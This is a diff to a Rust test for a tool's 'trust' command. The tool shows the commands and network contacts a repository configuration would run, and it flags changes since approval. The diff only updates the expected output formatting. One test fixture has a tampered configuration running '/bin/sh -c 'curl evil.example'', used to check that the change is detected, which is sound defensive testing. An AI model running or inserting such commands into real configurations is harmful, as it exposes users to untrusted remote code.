@@ -136,7 +136,7 @@ fn a_found_configuration_is_listed_approved_and_asked_about_again_when_it_change
     let asked = place.run_in("repo/deep", &["trust"]);
     asked.says(2, "there is no terminal to ask");
     assert!(
-        asked.out.contains("run     /bin/sh -c true") && asked.out.contains("contact 127.0.0.1:1"),
+        asked.out.contains("Run on this machine:\n  /bin/sh -c true") && asked.out.contains("Contact:\n  127.0.0.1:1"),
         "{}",
         asked.out
     );
@@ -149,9 +149,9 @@ fn a_found_configuration_is_listed_approved_and_asked_about_again_when_it_change
     let changed = place.run(&["trust", "--list"]);
     assert_eq!(changed.code, Some(1));
     assert!(changed.out.contains("has changed since you trusted it"), "{}", changed.out);
-    assert!(changed.out.contains("+ run     /bin/sh -c 'curl evil.example'"), "{}", changed.out);
-    assert!(changed.out.contains("- run     /bin/sh -c true"), "{}", changed.out);
-    assert!(changed.out.contains("  contact 127.0.0.1:1"), "{}", changed.out);
+    assert!(changed.out.contains("+ /bin/sh -c 'curl evil.example'"), "{}", changed.out);
+    assert!(changed.out.contains("- /bin/sh -c true"), "{}", changed.out);
+    assert!(changed.out.contains("  127.0.0.1:1"), "{}", changed.out);
 
     config("true");
     assert!(place.run(&["trust", "--revoke"]).good().contains("is no longer trusted"));
